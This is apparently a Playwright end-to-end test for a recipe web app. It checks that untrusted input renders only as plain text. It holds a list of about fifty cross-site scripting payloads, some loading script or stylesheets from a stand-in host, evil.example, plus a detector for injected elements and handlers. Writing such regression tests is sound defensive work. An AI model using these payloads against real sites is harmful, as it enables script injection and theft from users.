import assert from 'node:assert/strict';

import type { Page } from 'playwright-core';

import { newEntry } from '../support/recipes.ts';
import { journey } from './support/journey.ts';

/** Each would set `pwned` or open a dialog if it were ever treated as more than text. */
const ATTEMPTS: readonly string[] = [
  '<script>window.pwned=1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<img src=x onerror="window.pwned=1">',
  '<img src=1 href=1 onerror="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>window.pwned=1</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="data:text/html,<script>alert(1)</script>">click</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{display:none}</style>',
  '<div style="background:url(https://evil.example/x)">',
  '<div style="position:fixed;inset:0">cover</div>',
  '<template><script>window.pwned=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>window.pwned=1</script>]]>',
  '</textarea><script>window.pwned=1</script>',
  '</title><script>window.pwned=1</script>',
  '${window.pwned=1}',
  '{{constructor.constructor("window.pwned=1")()}}',
  '#{window.pwned=1}',
  '<%= window.pwned=1 %>',
  'javascript:window.pwned=1',
  'JaVaScRiPt:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\u202e<script>window.pwned=1</script>',
  '\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e',
  '<scr\u200bipt>window.pwned=1</scr\u200bipt>',
  '__proto__[pwned]=1',
];

/** Browser globals that Node.js does not have. */
interface World {
  readonly pwned?: unknown;
  readonly document: { querySelectorAll(selector: string): Iterable<Element> };
}

interface Element {
  readonly outerHTML: string;
  readonly attributes: Iterable<{ readonly name: string; readonly value: string }>;
}

/** Elements that no text may ever turn into. */
const intruders = (page: Page): Promise<readonly string[]> =>
  page.evaluate(() => {
    const { document, pwned } = globalThis as unknown as World;
    const found = pwned === undefined ? [] : ['pwned'];
    // The head belongs to the app; anything injected would be in the body.
    const foreign =
      'script, iframe, object, embed, base, link, style, meta, marquee, math, video, template, form[action]';
    for (const element of document.querySelectorAll(`body :is(${foreign})`)) found.push(element.outerHTML);
    for (const element of document.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        const isHandler = name.startsWith('on') || name === 'srcdoc';
        const isAddress = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data'].includes(name);
        if (isHandler || (isAddress && !/^(?:https?:\/\/|\/|#|blob:)/i.test(value))) found.push(element.outerHTML);
      }
    }
    return found;
  });

const [first = ''] = ATTEMPTS;

journey('renders untrusted text as plain text', { sizes: ['desk'] }, async ({ api, page, go }) => {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const tag = await api.post<{ id: string }>('/api/v1/tags', {
    name: '<svg onload=alert(1)>',
    color: 'url(//evil.example)',
  });
  await api.post('/api/v1/books', { kind: 'personal', title: '<img src=x onerror=alert(1)>' });
  const recipe = {
    title: `Soup ${first}`,
    description: ATTEMPTS.join('\n'),
    notes: ATTEMPTS.join('\n'),
    authors: ATTEMPTS.slice(0, 20).map((name) => ({
      name,
      url: 'https://example.org/?"><script>alert(1)</script>'.replaceAll(' ', ''),
    })),
    source: { name: '<b onclick=alert(1)>Almanac</b>', url: 'https://example.org/%22onclick=alert(1)' },
    keywords: ATTEMPTS.slice(0, 10),
    yields: [{ text: `4 ${first}` }],
    ingredient_sections: [{ title: first, ingredients: ATTEMPTS.map((text) => ({ text: `1 ${text}`, note: text })) }],
    instruction_sections: [
      { title: first, steps: ATTEMPTS.map((text) => ({ title: text, text: `${text} for 5 minutes ${text}` })) },
    ],
    equipment: ATTEMPTS.map((description) => ({ description })),
    variants: [{ id: 'one', title: first, description: ATTEMPTS.join('\n') }],
    allergen_declarations: [{ text: first, substance: '<img src=x onerror=alert(1)>', presence: 'contains' }],
    nutrition: [{ basis: { kind: 'serving', text: first }, nutrients: [{ nutrient: 'energy', text: first }] }],
  };
  // URLs that would run script are rejected by the API.
  const unsafe = await api.post('/api/v1/recipes', { recipe: { title: 'x', source: { url: 'javascript:alert(1)' } } });
  assert.equal(unsafe.status, 422);
  const { id } = await newEntry(api, recipe);
  await api.put(`/api/v1/recipes/${id}/organization`, { tags: [tag.body.id] }, { 'if-match': '"1"' });
  await api.put(`/api/v1/recipes/${id}`, { recipe: { ...recipe, notes: first } }, { 'if-match': '"1"' });

  for (const path of ['', `recipes/${id}`, `recipes/${id}/cook`, `recipes/${id}/history`]) {
    await go(`/${path}`);
    await page.getByRole('heading', { level: 1 }).waitFor();
    await page.waitForLoadState('networkidle');
    assert.deepEqual(await intruders(page), [], path);
  }
  await go(`/recipes/${id}`);
  await page.getByRole('heading', { level: 1, name: `Soup ${first}` }).waitFor();
  const text = await page.getByRole('main').innerText();
  for (const attempt of ATTEMPTS) assert.ok(text.includes(attempt), attempt);
  await page.emulateMedia({ media: 'print' });
  assert.deepEqual(await intruders(page), [], 'in print');
  assert.deepEqual(dialogs, []);
});
